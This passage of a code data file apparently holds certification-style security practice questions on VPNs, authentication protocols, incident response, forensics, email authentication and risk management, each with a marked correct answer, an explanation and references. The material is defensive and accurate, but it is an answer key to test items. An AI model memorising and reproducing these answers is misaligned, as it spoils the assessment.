      stem: 'Two offices are connected with a site-to-site IPsec VPN across the internet. The security team requires that the entire original IP packet, including the internal source and destination addresses, be encrypted and encapsulated behind a new IP header. Which IPsec configuration meets this requirement?',
      options: [
        { text: 'Authentication Header (AH) in transport mode' },
        { text: 'Encapsulating Security Payload (ESP) in transport mode' },
        { text: 'Encapsulating Security Payload (ESP) in tunnel mode', correct: true },
        { text: 'Authentication Header (AH) in tunnel mode' },
      ],
      explanation:
        'ESP provides confidentiality, and in tunnel mode it encrypts the whole original packet, headers included, and adds a new outer IP header between the gateways, which is the standard for site-to-site VPNs. ESP in transport mode encrypts only the payload and leaves the original IP header exposed. AH provides integrity and authentication but no encryption in either mode, so it cannot meet a confidentiality requirement.',
      references: [
        {
          title: 'RFC 4303: IP Encapsulating Security Payload (ESP)',
          url: 'https://www.rfc-editor.org/rfc/rfc4303',
        },
      ],
    },
    {
      objective: '3.0',
      difficulty: 2,
      stem: "Corporate policy requires that all web traffic from remote employees be inspected by the company's secure web gateway, including traffic to public websites. Which remote access VPN configuration should be used?",
      options: [
        { text: 'Split tunnel' },
        { text: 'Full tunnel', correct: true },
        { text: 'Clientless VPN limited to the intranet portal' },
        { text: 'Site-to-site tunnel between branch routers' },
      ],
      explanation:
        "A full-tunnel VPN sends all of the client's traffic, including internet-bound traffic, through the corporate network, where the web gateway can inspect it. A split tunnel sends only corporate-destined traffic through the VPN and lets internet traffic go out directly, bypassing inspection. A clientless portal only publishes specific internal applications, and a site-to-site tunnel connects networks rather than individual remote users.",
    },

    // ---------------------------------------------------------------------
    // 4.0 Security Operations
    // ---------------------------------------------------------------------
    {
      objective: '4.0',
      difficulty: 1,
      stem: "A systems administrator is preparing a new Linux server for production using the organization's secure baseline. Which of the following are appropriate hardening steps? (Choose two.)",
      options: [
        { text: 'Enable Telnet to simplify remote troubleshooting' },
        { text: 'Disable or remove services and packages the server does not need', correct: true },
        { text: 'Change or disable all default accounts and credentials', correct: true },
        { text: 'Open all firewall ports during the first month of testing' },
        { text: 'Install compilers and development tools for future use' },
      ],
      explanation:
        'Removing unnecessary services reduces the attack surface, and changing or disabling default credentials removes one of the most commonly exploited weaknesses; both are core baseline hardening steps found in benchmarks such as CIS. Telnet sends credentials in cleartext and should be replaced by SSH. Opening all ports and installing unneeded development tools both expand the attack surface instead of reducing it.',
      references: [{ title: 'CIS Benchmarks', url: 'https://www.cisecurity.org/cis-benchmarks' }],
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'A security team is evaluating sign-in options for a new remote access portal and must ensure that each option is truly multifactor. Which of the following combinations meet this requirement? (Choose two.)',
      options: [
        { text: 'A password and a four-digit PIN' },
        { text: 'A fingerprint scan and a facial recognition scan' },
        { text: 'A smart card and its PIN', correct: true },
        { text: 'A password and the answer to a security question' },
        { text: 'A hardware token code and a fingerprint scan', correct: true },
      ],
      explanation:
        'Multifactor authentication requires factors from different categories: a smart card (something you have) with a PIN (something you know), and a hardware token (something you have) with a fingerprint (something you are). A password with a PIN, or a password with a security question, uses two things you know. Two biometric scans are both something you are, so they are multiple instances of a single factor.',
      references: [
        {
          title: 'NIST SP 800-63B Digital Identity Guidelines',
          url: 'https://pages.nist.gov/800-63-3/sp800-63b.html',
        },
      ],
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'A company wants employees to sign in to a third-party SaaS expense application with their existing corporate credentials. The corporate identity provider will send XML-based, digitally signed assertions to the SaaS provider after users authenticate. Which standard is being used?',
      options: [{ text: 'LDAP' }, { text: 'Kerberos' }, { text: 'RADIUS' }, { text: 'SAML', correct: true }],
      explanation:
        'Security Assertion Markup Language (SAML) is an XML-based federation standard in which an identity provider issues signed assertions that a service provider trusts to enable single sign-on across organizations. LDAP is a directory access protocol, and Kerberos is a ticket-based protocol primarily used within a single trusted domain. RADIUS provides AAA for network access such as VPN and Wi-Fi, not web federation with SaaS applications.',
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: "A photo-printing website wants to access a user's pictures stored with a separate cloud storage provider. The user should approve the access at the storage provider and must never give their storage password to the printing website. Which of the following is designed for this purpose?",
      options: [
        { text: 'OAuth 2.0', correct: true },
        { text: 'TACACS+' },
        { text: 'NTLM' },
        { text: 'Password vaulting' },
      ],
      explanation:
        "OAuth 2.0 is a delegated authorization framework in which the user consents at the resource owner's authorization server and the client application receives a limited, revocable access token instead of the user's password. TACACS+ is used for administrative access to network devices, and NTLM is a legacy Windows challenge-response authentication protocol. Password vaulting stores credentials securely but would still require sharing the password with the printing site.",
      references: [
        {
          title: 'RFC 6749: The OAuth 2.0 Authorization Framework',
          url: 'https://www.rfc-editor.org/rfc/rfc6749',
        },
      ],
    },
    {
      objective: '4.0',
      difficulty: 3,
      stem: 'A network team needs centralized AAA for administrators logging in to routers and switches. Requirements include authorizing individual commands separately from authentication, and encrypting the entire body of each AAA packet rather than only the password. Which protocol BEST meets these requirements?',
      options: [{ text: 'RADIUS' }, { text: 'TACACS+', correct: true }, { text: 'LDAP' }, { text: 'SAML' }],
      explanation:
        'TACACS+ separates authentication, authorization, and accounting, supports per-command authorization for device administration, runs over TCP, and encrypts the full packet body. RADIUS combines authentication and authorization and encrypts only the password attribute, which is why it is favored for network access rather than granular device administration. LDAP is a directory protocol without command authorization, and SAML is a web federation standard.',
      references: [
        { title: 'RFC 8907: The TACACS+ Protocol', url: 'https://www.rfc-editor.org/rfc/rfc8907' },
      ],
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'An organization wants its document system to grant access only when the user is in the Finance department, is connecting from a compliant managed device, and is accessing the data during business hours. Which access control model BEST supports these requirements?',
      options: [
        { text: 'Role-based access control' },
        { text: 'Discretionary access control' },
        { text: 'Attribute-based access control', correct: true },
        { text: 'Mandatory access control' },
      ],
      explanation:
        'Attribute-based access control evaluates policies that combine attributes of the user, resource, device, and environment, such as department, device compliance, and time of day. Role-based access control assigns permissions by job role and does not natively account for device state or time. Discretionary access control lets resource owners grant access at will, and mandatory access control relies on system-enforced classification labels and clearances.',
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'An audit finds that domain administrators use permanent privileged accounts for daily work and that several administrators share one password for a server administration account. Which of the following BEST addresses these findings?',
      options: [
        { text: 'Require the shared password to be 20 characters long and changed annually' },
        { text: 'Enable single sign-on for all administrative tools' },
        { text: 'Provide each administrator with a personal password manager' },
        {
          text: 'Deploy a privileged access management solution with just-in-time elevation, credential check-out, and automatic password rotation',
          correct: true,
        },
      ],
      explanation:
        'A PAM solution removes standing privilege by granting elevated access only when needed, vaults privileged credentials, ties each check-out to an individual for accountability, and rotates passwords after use. A longer shared password still offers no individual accountability and remains permanently valid. SSO improves convenience but does not limit privilege, and personal password managers do not control or audit shared privileged accounts.',
    },
    {
      objective: '4.0',
      difficulty: 1,
      stem: 'A security operations center wants to aggregate logs from firewalls, servers, and the directory service, correlate related events across them, and generate alerts when patterns suggest a multi-stage attack. Which tool is designed for this?',
      options: [
        { text: 'SIEM', correct: true },
        { text: 'DLP' },
        { text: 'NAC' },
        { text: 'File integrity monitoring' },
      ],
      explanation:
        'A security information and event management (SIEM) system collects and normalizes logs from many sources, correlates events, and raises alerts and dashboards for analysts. DLP focuses on preventing sensitive data from leaving the organization. NAC controls which devices may join the network, and file integrity monitoring detects changes to specific files on hosts.',
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'While reconstructing an intrusion, an analyst finds that the firewall, the web server, and the domain controller record the same events several minutes apart, which makes building an accurate timeline very difficult. Which of the following should be implemented to prevent this problem in the future?',
      options: [
        { text: 'Increase logging verbosity on each device' },
        { text: 'Enable log rotation on every system' },
        { text: 'Synchronize all devices to a common, reliable time source using NTP', correct: true },
        { text: 'Migrate device monitoring to SNMPv3' },
      ],
      explanation:
        'Consistent, synchronized time across systems is essential for correlating logs and reconstructing event timelines, and NTP provides it. More verbose logging adds detail but the timestamps would still disagree. Log rotation manages log file size and retention, and SNMPv3 secures device monitoring, so neither corrects clock drift.',
    },
    {
      objective: '4.0',
      difficulty: 3,
      stem: 'A vulnerability scan reports two findings: CVSS 9.8 on an isolated lab server that holds no sensitive data and is not reachable from production, and CVSS 6.5 on an internet-facing payment server, where the vulnerability appears in a government catalog of actively exploited vulnerabilities. Which finding should the team remediate FIRST?',
      options: [
        { text: 'The lab server, because a 9.8 base score is critical' },
        { text: 'Both equally, because all scanner findings share the same SLA' },
        { text: 'Whichever finding has been open the longest' },
        {
          text: 'The payment server, because exposure, active exploitation, and asset criticality make its real risk higher',
          correct: true,
        },
      ],
      explanation:
        "The CVSS base score describes a vulnerability's technical severity, but prioritization should also weigh environmental and threat context such as internet exposure, known active exploitation, and the value of the asset. An actively exploited flaw on an internet-facing payment system is far more likely to cause harm than a critical-rated flaw on an isolated, low-value lab host. Treating all findings the same or by age ignores that risk context.",
      references: [
        {
          title: 'FIRST CVSS v3.1 Specification',
          url: 'https://www.first.org/cvss/v3.1/specification-document',
        },
        {
          title: 'CISA Known Exploited Vulnerabilities Catalog',
          url: 'https://www.cisa.gov/known-exploited-vulnerabilities-catalog',
        },
      ],
    },
    {
      objective: '4.0',
      difficulty: 1,
      stem: 'A vulnerability scanner reports a critical Apache HTTP Server vulnerability on a host. An administrator confirms that the host runs only Microsoft IIS and has never had Apache installed. How should this finding be classified?',
      options: [
        { text: 'True positive' },
        { text: 'False positive', correct: true },
        { text: 'False negative' },
        { text: 'Zero-day' },
      ],
      explanation:
        'A false positive is a reported vulnerability that does not actually exist, such as an Apache issue on a host that does not run Apache. A true positive would be a correctly reported, real vulnerability, and a false negative is a real vulnerability that the scanner failed to report. A zero-day is a vulnerability unknown to the vendor with no available patch, which is unrelated to this misidentification.',
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'A security analyst notices that network-based vulnerability scans consistently miss outdated third-party applications and missing local patches on Windows workstations. Which change would MOST improve the accuracy of the scan results?',
      options: [
        { text: 'Run the scans from an external IP address' },
        { text: 'Use passive scanning from a SPAN port' },
        { text: 'Configure credentialed scans using a dedicated scanning account', correct: true },
        { text: 'Increase the scan frequency from monthly to weekly' },
      ],
      explanation:
        'Credentialed scans log in to each host and can inspect installed software, registry settings, and patch levels directly, revealing issues that are not visible from the network. An external, unauthenticated view sees even less of the host. Passive scanning observes only traffic, and scanning more often would simply repeat the same incomplete results.',
      references: [
        {
          title: 'NIST SP 800-40 Rev. 4 Guide to Enterprise Patch Management Planning',
          url: 'https://csrc.nist.gov/pubs/sp/800/40/r4/final',
        },
      ],
    },
    {
      objective: '4.0',
      difficulty: 1,
      stem: 'After confirming that a workstation is communicating with a known command-and-control server, an analyst moves the workstation to a quarantine VLAN so it can no longer reach other internal systems, while leaving it powered on. Which phase of the incident response process is the analyst performing?',
      options: [
        { text: 'Preparation' },
        { text: 'Eradication' },
        { text: 'Containment', correct: true },
        { text: 'Lessons learned' },
      ],
      explanation:
        'Containment limits the spread and impact of an incident, for example by isolating an affected host, while preserving evidence for analysis. Preparation takes place before an incident, through activities such as building playbooks and tools. Eradication removes the malware and its persistence after containment, and lessons learned is the post-incident review.',
      references: [
        {
          title: 'NIST SP 800-61 Rev. 2 Computer Security Incident Handling Guide',
          url: 'https://csrc.nist.gov/pubs/sp/800/61/r2/final',
        },
      ],
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'A new SOC analyst is writing an incident response playbook. Which of the following lists the incident response activities in the correct order?',
      options: [
        {
          text: 'Preparation, detection, analysis, containment, eradication, recovery, lessons learned',
          correct: true,
        },
        { text: 'Detection, preparation, containment, analysis, recovery, eradication, lessons learned' },
        { text: 'Preparation, detection, eradication, containment, analysis, recovery, lessons learned' },
        { text: 'Preparation, analysis, detection, recovery, containment, eradication, lessons learned' },
      ],
      explanation:
        'The process begins with preparation before incidents happen, then detection and analysis to confirm and scope the incident, followed by containment to stop the spread, eradication to remove the cause, recovery to restore normal operations, and lessons learned to improve the program. Eradicating before containing risks further spread while the attacker still has access. Recovering before eradication could reintroduce systems that are still compromised.',
      references: [
        {
          title: 'NIST SP 800-61 Rev. 2 Computer Security Incident Handling Guide',
          url: 'https://csrc.nist.gov/pubs/sp/800/61/r2/final',
        },
      ],
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'A forensic investigator arrives at a running server that is suspected of being compromised. Following the order of volatility, which of the following should the investigator collect FIRST?',
      options: [
        { text: "A bit-for-bit image of the system's hard drive" },
        { text: 'Log data already forwarded to the remote syslog server' },
        { text: 'Files in the temporary file system' },
        { text: 'The contents of system memory (RAM)', correct: true },
      ],
      explanation:
        'Evidence should be collected from most to least volatile, and memory contents, including running processes, network connections, and encryption keys, are lost as soon as the system is powered off or changes state. Temporary file system contents are less volatile than RAM but more volatile than data on disk. A disk image and remote logs persist much longer and can be collected later.',
      references: [
        {
          title: 'RFC 3227: Guidelines for Evidence Collection and Archiving',
          url: 'https://www.rfc-editor.org/rfc/rfc3227',
        },
      ],
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'The legal department informs IT that the company expects to be sued by a former supplier and instructs IT to suspend normal deletion schedules and preserve all email and files belonging to five employees. Which of the following is legal requesting?',
      options: [
        { text: 'Chain of custody' },
        { text: 'A legal hold', correct: true },
        { text: 'Data sanitization' },
        { text: 'A right-to-be-forgotten request' },
      ],
      explanation:
        'A legal hold requires an organization to preserve potentially relevant information, overriding normal retention and deletion policies, when litigation is pending or reasonably anticipated. Chain of custody documents who handled evidence and when, but it does not itself trigger preservation. Data sanitization destroys data, and a right-to-be-forgotten request asks for deletion, both of which are the opposite of what legal has instructed.',
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: "An investigator is acquiring an image of a suspect laptop's drive for a case that may go to court. Which of the following actions BEST preserve the integrity of the evidence? (Choose two.)",
      options: [
        { text: 'Boot the laptop normally and run a full antivirus scan before imaging' },
        { text: 'Attach the drive through a hardware write blocker during acquisition', correct: true },
        { text: 'Copy relevant files to a USB drive by dragging and dropping them' },
        {
          text: 'Calculate and record cryptographic hashes of the original drive and the image',
          correct: true,
        },
        { text: 'Defragment the drive so the image is smaller' },
      ],
      explanation:
        'A write blocker prevents any change to the original media during acquisition, and matching hashes of the original and the image prove the copy is exact and unaltered. Booting the system and running antivirus modifies timestamps and files and can destroy evidence. Dragging and dropping files alters metadata and misses deleted and unallocated data, and defragmenting rewrites the drive and destroys recoverable artifacts.',
      references: [
        {
          title: 'NIST SP 800-86 Guide to Integrating Forensic Techniques into Incident Response',
          url: 'https://csrc.nist.gov/pubs/sp/800/86/final',
        },
      ],
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'A company has published SPF and DKIM records, but spoofed emails using its domain still reach some recipients. The security team wants to tell receiving mail servers to reject messages that fail authentication checks and to send aggregate reports back to the company. Which DNS record should be published?',
      options: [
        { text: 'MX' },
        { text: 'A second SPF record' },
        { text: 'DMARC', correct: true },
        { text: 'PTR' },
      ],
      explanation:
        'DMARC builds on SPF and DKIM by requiring alignment with the visible From domain, specifying a policy of none, quarantine, or reject for failing messages, and enabling aggregate and forensic reporting. SPF lists authorized sending servers but does not tell receivers what to do on failure, and a domain must have only one SPF record. MX records specify inbound mail servers, and PTR records provide reverse DNS lookups.',
      references: [
        {
          title: 'RFC 7489: Domain-based Message Authentication, Reporting, and Conformance (DMARC)',
          url: 'https://www.rfc-editor.org/rfc/rfc7489',
        },
      ],
    },
    {
      objective: '4.0',
      difficulty: 1,
      stem: 'A library is deploying public kiosk computers that should only ever run a web browser and a catalog application. Which control BEST prevents any other software, including new malware, from executing on the kiosks?',
      options: [
        { text: 'Application allow listing', correct: true },
        { text: 'Signature-based antivirus' },
        { text: 'An application block list' },
        { text: 'Weekly vulnerability scanning' },
      ],
      explanation:
        'Application allow listing permits only explicitly approved programs to run and denies everything else by default, which fits systems with a small, fixed set of applications. Signature-based antivirus and block lists stop only known bad software, so new or modified malware can slip through. Vulnerability scanning identifies weaknesses but does not prevent execution.',
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'A company wants to stop employees from emailing spreadsheets that contain customer Social Security numbers to external recipients, while still allowing other external email. Which solution BEST meets this requirement?',
      options: [
        { text: 'Network access control' },
        { text: 'File integrity monitoring' },
        { text: 'Security orchestration, automation, and response' },
        { text: 'Data loss prevention', correct: true },
      ],
      explanation:
        'A DLP solution inspects content in motion, such as email attachments, for patterns like Social Security numbers and can block, quarantine, or encrypt messages that violate policy. NAC decides whether devices may connect to the network, and file integrity monitoring alerts when protected files change. SOAR automates response workflows but does not itself inspect outbound content.',
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'SOC analysts spend hours each day manually handling reported phishing emails: extracting URLs, checking them against threat intelligence, searching for other recipients, and deleting the messages. Management wants these repetitive steps performed consistently and automatically. Which of the following should the SOC implement?',
      options: [
        { text: 'A SOAR platform with phishing playbooks', correct: true },
        { text: 'An additional SIEM correlation rule' },
        { text: 'A honeynet' },
        { text: 'A network tap on the mail server' },
      ],
      explanation:
        'Security orchestration, automation, and response (SOAR) platforms integrate with tools such as email, threat intelligence, and ticketing systems and run playbooks that automate repetitive investigation and response steps. A SIEM rule can raise an alert but does not carry out the enrichment and remediation steps. A honeynet lures attackers for study, and a network tap only provides a copy of traffic.',
    },
    {
      objective: '4.0',
      difficulty: 3,
      stem: 'A company is deploying WPA3-Enterprise with 802.1X. The security team requires that both the RADIUS server and every client device authenticate using digital certificates, with no passwords involved. Which EAP method should be configured?',
      options: [
        { text: 'PEAP with MSCHAPv2' },
        { text: 'EAP-TTLS with PAP' },
        { text: 'EAP-FAST' },
        { text: 'EAP-TLS', correct: true },
      ],
      explanation:
        'EAP-TLS performs mutual certificate-based authentication, requiring certificates on both the authentication server and each client. PEAP and EAP-TTLS use a server certificate to build a protected tunnel, but the client usually authenticates inside it with a password through MSCHAPv2 or PAP. EAP-FAST uses protected access credentials to establish its tunnel and commonly relies on passwords for user authentication.',
      references: [
        {
          title: 'RFC 5216: The EAP-TLS Authentication Protocol',
          url: 'https://www.rfc-editor.org/rfc/rfc5216',
        },
      ],
    },
    {
      objective: '4.0',
      difficulty: 2,
      stem: 'A systems engineer in the finance department has been terminated effective immediately. Which of the following deprovisioning actions should the IT and security teams take? (Choose three.)',
      options: [
        { text: "Disable the user's accounts and revoke active sessions and tokens", correct: true },
        { text: "Delete all of the user's mailbox and file data immediately" },
        { text: "Collect the user's badge, laptop, and hardware security key", correct: true },
        { text: 'Leave the account enabled for 90 days so email continues to arrive' },
        { text: 'Rotate passwords for any shared or service accounts the user knew', correct: true },
        { text: "Give the user's password to their manager so files can be retrieved" },
      ],
      explanation:
        "Prompt deprovisioning disables access and invalidates existing sessions, recovers physical credentials and company assets, and rotates any shared secrets the person could still use. Immediately deleting data may violate retention requirements or a legal hold, so data should be transferred or preserved according to policy. Leaving the account enabled keeps an unnecessary access path open, and sharing the user's password destroys accountability; delegated access should be granted to the manager instead.",
    },

    // ---------------------------------------------------------------------
    // 5.0 Security Program Management and Oversight
    // ---------------------------------------------------------------------
    {
      objective: '5.0',
      difficulty: 2,
      stem: 'A storage array is valued at $40,000. If the server room floods, the array is expected to lose 25% of its value, and the company estimates a flood will occur once every two years. What is the annualized loss expectancy (ALE) for this risk?',
      options: [
        { text: '$2,500' },
        { text: '$5,000', correct: true },
        { text: '$10,000' },
        { text: '$20,000' },
      ],
      explanation:
        'The single loss expectancy is asset value multiplied by exposure factor: $40,000 x 0.25 = $10,000. An event once every two years gives an annualized rate of occurrence of 0.5, so ALE = SLE x ARO = $10,000 x 0.5 = $5,000. $10,000 is the SLE alone, and $20,000 results from wrongly multiplying the full asset value by the ARO.',
    },
    {
      objective: '5.0',
      difficulty: 3,
      stem: 'A risk analysis estimates a single loss expectancy of $200,000 and an ARO of 0.1 for a data center outage. A proposed control costs $35,000 per year and would reduce the ARO to 0.02. Based on a quantitative analysis, what should the company conclude?',
      options: [
        { text: 'Implement the control, because it reduces the ALE by $16,000' },
        { text: 'Implement the control, because it reduces the SLE from $200,000 to $40,000' },
        {
          text: 'Do not implement the control, because its annual cost exceeds the $16,000 reduction in ALE',
          correct: true,
        },
        { text: 'Do not implement the control, because the SLE would remain unchanged' },
      ],
      explanation:
        "The current ALE is $200,000 x 0.1 = $20,000 and the residual ALE is $200,000 x 0.02 = $4,000, so the control saves $16,000 per year while costing $35,000, which is not cost-justified on a purely quantitative basis. A reduction in ALE alone does not justify a control unless it exceeds the control's cost. The control changes the likelihood (ARO), not the SLE, and an unchanged SLE is not by itself a reason to reject a control.",
      references: [
        {
          title: 'NIST SP 800-30 Rev. 1 Guide for Conducting Risk Assessments',
          url: 'https://csrc.nist.gov/pubs/sp/800/30/r1/final',
        },
      ],
    },
    {
      objective: '5.0',
      difficulty: 1,
      stem: 'After a risk assessment, a company purchases a cyber insurance policy to cover the financial impact of a potential ransomware incident. Which risk management strategy is the company using?',
      options: [
        { text: 'Transfer', correct: true },
        { text: 'Acceptance' },
        { text: 'Avoidance' },
        { text: 'Mitigation' },
      ],
      explanation:
        'Buying insurance shifts some of the financial consequences of a risk to a third party, which is risk transference. Acceptance means acknowledging the risk and taking no further action, and avoidance means stopping the activity that creates the risk. Mitigation reduces the likelihood or impact with controls, such as backups or EDR, which the insurance policy does not do.',
    },
    {
      objective: '5.0',
      difficulty: 1,
      stem: 'A CISO wants a single document that lists each identified risk along with its owner, likelihood, impact, current controls, and the status of planned treatments, so it can be reviewed monthly with leadership. Which of the following is the CISO describing?',
      options: [
        { text: 'Business impact analysis' },
        { text: 'Service-level agreement' },
        { text: 'Risk register', correct: true },
        { text: 'Acceptable use policy' },
      ],
      explanation:
        'A risk register is the central record of identified risks and their owners, ratings, controls, and treatment plans, used to track and report risk over time. A business impact analysis identifies critical functions and the effects of their disruption, such as recovery objectives, rather than tracking all risks. An SLA defines service performance between parties, and an acceptable use policy sets rules for how employees use company resources.',
    },
    {
      objective: '5.0',
      difficulty: 1,
      stem: 'During a business impact analysis, the owner of the order-processing system states that the business can tolerate losing no more than 15 minutes of transaction data. Which metric does this value define?',
      options: [
        { text: 'Recovery time objective (RTO)' },
        { text: 'Mean time between failures (MTBF)' },
        { text: 'Mean time to repair (MTTR)' },
        { text: 'Recovery point objective (RPO)', correct: true },
      ],
      explanation:
        'The recovery point objective is the maximum acceptable amount of data loss, measured as time, and it drives how often backups or replication must occur. The recovery time objective is the maximum acceptable downtime before a system must be restored. MTBF measures the average operating time between failures, and MTTR measures how long repairs typically take.',
    },
    {
      objective: '5.0',
      difficulty: 1,
      stem: 'A company is negotiating with a managed hosting provider and wants a contract that specifies 99.95% monthly uptime, a four-hour response time for critical incidents, and service credits if those targets are missed. Which type of agreement contains these terms?',
      options: [
        { text: 'Memorandum of understanding (MOU)' },
        { text: 'Service-level agreement (SLA)', correct: true },
        { text: 'Non-disclosure agreement (NDA)' },
        { text: 'Business partners agreement (BPA)' },
      ],
      explanation:
        'An SLA defines measurable service expectations, such as uptime and response times, and the remedies or penalties if they are not met. An MOU expresses a general, usually non-binding intent to cooperate. An NDA protects confidential information, and a BPA governs the relationship between business partners, such as profit sharing and responsibilities, rather than specific service metrics.',
    },
    {
      objective: '5.0',
      difficulty: 3,
      stem: "Before signing a contract with a cloud payroll provider, a company's vendor risk team needs independent assurance that the provider's security controls have operated effectively over time. The team cannot perform its own on-site audit. Which of the following should the team request?",
      options: [
        { text: "The provider's SOC 2 Type I report" },
        { text: "The provider's published privacy policy" },
        { text: "The provider's SOC 2 Type II report", correct: true },
        {
          text: "Permission to run an unannounced penetration test against the provider's production environment",
        },
      ],
      explanation:
        "A SOC 2 Type II report is an independent auditor's opinion on both the design and the operating effectiveness of a service organization's controls over a period of time, usually six to twelve months. A Type I report evaluates only control design at a single point in time. A privacy policy is a self-published statement rather than independent assurance, and a penetration test of production systems requires explicit, scoped authorization and does not assess controls broadly.",
    },
    {
      objective: '5.0',
      difficulty: 2,
      stem: 'A company is formalizing data governance roles. Which role is accountable for classifying a data set, such as customer records, and approving who may access it?',
      options: [
        { text: 'Data custodian' },
        { text: 'Data processor' },
        { text: 'Data subject' },
        { text: 'Data owner', correct: true },
      ],
      explanation:
        'The data owner, usually a senior business leader, is accountable for the data, including assigning its classification and approving access. The data custodian, often IT staff, implements and maintains the controls the owner specifies, such as backups and permissions. A data processor handles data on behalf of a controller, and the data subject is the individual the data describes.',
    },
    {
      objective: '5.0',
      difficulty: 2,
      stem: 'A governance document states: "All company laptops must use full-disk encryption with AES-256 and the approved endpoint management agent; no other encryption products are permitted." Which type of document is this statement MOST likely from?',
      options: [
        { text: 'Standard', correct: true },
        { text: 'Policy' },
        { text: 'Guideline' },
        { text: 'Procedure' },
      ],
      explanation:
        'A standard defines mandatory, specific requirements, such as required algorithms or products, that support a higher-level policy. A policy states management\'s broad intent, such as "data on portable devices must be protected," without naming specific technologies. Guidelines are recommended but optional practices, and procedures give step-by-step instructions for carrying out a task.',
    },
    {
      objective: '5.0',
      difficulty: 1,
      stem: 'A quarterly phishing simulation shows that 28% of employees clicked the test link, and most of them were in the accounts payable team. Which of the following is the BEST next step for the security awareness program?',
      options: [
        { text: 'Terminate employees who clicked the link' },
        { text: 'Stop running simulations because they lower morale' },
        { text: 'Block all external email for the accounts payable team' },
        {
          text: 'Provide targeted training for those who clicked, especially accounts payable, and track click rates over recurring campaigns',
          correct: true,
        },
      ],
      explanation:
        'Effective awareness programs use simulation results to deliver targeted, role-relevant training and measure improvement over time, and accounts payable is a frequent target of payment fraud. Punitive terminations discourage employees from reporting mistakes. Stopping simulations removes a key measurement tool, and blocking all external email would disrupt legitimate business without addressing user behavior.',
    },
    {
      objective: '5.0',
      difficulty: 2,
      stem: 'A company hires an external firm to perform a penetration test. Before testing begins, both parties sign a document that defines the in-scope IP ranges, permitted techniques, testing windows, emergency contacts, and how sensitive data must be handled. What is this document called?',
      options: [
        { text: 'Non-disclosure agreement' },
        { text: 'Rules of engagement', correct: true },
        { text: 'Attestation of compliance' },
        { text: 'Service-level agreement' },
      ],
      explanation:
        'The rules of engagement define how a penetration test will be conducted, including scope, allowed and prohibited activities, timing, communication, and data handling, and they provide the written authorization that separates testing from an attack. An NDA covers confidentiality only. An attestation of compliance records the outcome of a compliance assessment, and an SLA defines ongoing service performance.',
      references: [
        {
          title: 'NIST SP 800-115 Technical Guide to Information Security Testing and Assessment',
          url: 'https://csrc.nist.gov/pubs/sp/800/115/final',
        },
      ],
    },
    {
      objective: '5.0',
      difficulty: 2,
      stem: 'A privacy officer is training customer service staff on requests that EU residents may make under the GDPR. Which of the following are rights granted to data subjects by the regulation? (Choose two.)',
      options: [
        { text: 'The right to erasure', correct: true },
        { text: 'The right to require a specific encryption algorithm for their data' },
        { text: "The right to receive the controller's internal security audit reports" },
        { text: 'The right to data portability', correct: true },
        { text: 'The right to unlimited free storage of their data by the controller' },
      ],
      explanation:
        'GDPR grants data subjects the right to erasure (the "right to be forgotten," Article 17) and the right to data portability (Article 20), along with others such as access and rectification. The regulation requires appropriate security measures but does not let individuals dictate specific algorithms. Data subjects have no right to a controller\'s internal audit reports, and storage limitation actually requires that personal data not be kept longer than necessary.',
      references: [
        { title: 'Regulation (EU) 2016/679 (GDPR)', url: 'https://eur-lex.europa.eu/eli/reg/2016/679/oj' },
      ],
    },
    {
      objective: '5.0',
      difficulty: 1,
      stem: 'An online retailer stores, processes, and transmits customer credit card numbers. Which compliance framework is the retailer contractually required to follow for this data?',
      options: [{ text: 'HIPAA' }, { text: 'FERPA' }, { text: 'PCI DSS', correct: true }, { text: 'SOX' }],
      explanation:
        'PCI DSS applies to any organization that stores, processes, or transmits payment card data and is enforced through agreements with the card brands and acquiring banks. HIPAA governs protected health information in the United States, and FERPA protects student education records. SOX concerns the accuracy of financial reporting by publicly traded companies, not cardholder data security.',
      references: [{ title: 'PCI Security Standards Council', url: 'https://www.pcisecuritystandards.org/' }],
    },
    {
      objective: '5.0',
      difficulty: 2,
      stem: 'A risk manager is preparing a quantitative risk analysis to present in monetary terms to the board. Which of the following values would the manager calculate as part of this analysis? (Choose two.)',
      options: [
        { text: 'A heat map placing each risk in a high, medium, or low cell' },
        { text: 'Single loss expectancy (SLE)', correct: true },
        { text: 'A likelihood rating of "probable" from a team workshop' },
        { text: 'Annualized rate of occurrence (ARO)', correct: true },
        { text: 'An impact rating of "severe" based on expert opinion' },
      ],
      explanation:
        'Quantitative analysis assigns numeric values, using SLE (asset value x exposure factor) and ARO to compute annualized loss expectancy in currency. Heat maps and ratings such as "probable" or "severe" are qualitative techniques that rank risks relative to one another without assigning monetary values. Qualitative methods are faster but less precise for cost-benefit decisions.',
    },
    {
      objective: '5.0',
      difficulty: 2,
      stem: "A multinational company learns that a law in one country where it operates requires personal data about that country's citizens to be stored and processed on servers physically located within the country. Which concept does this requirement illustrate?",
      options: [
        { text: 'Data minimization' },
        { text: 'Data masking' },
        { text: 'Data retention' },
        { text: 'Data sovereignty', correct: true },
      ],
      explanation:
        'Data sovereignty is the principle that data is subject to the laws of the country where it is located, and it often leads to localization requirements that data stay within national borders. Data minimization means collecting only the data needed for a purpose. Data masking obscures values for display or testing, and data retention governs how long data is kept, not where.',
    },
    ...securityKindQuestions,
  ],
  caseStudies: [securityCase],
};
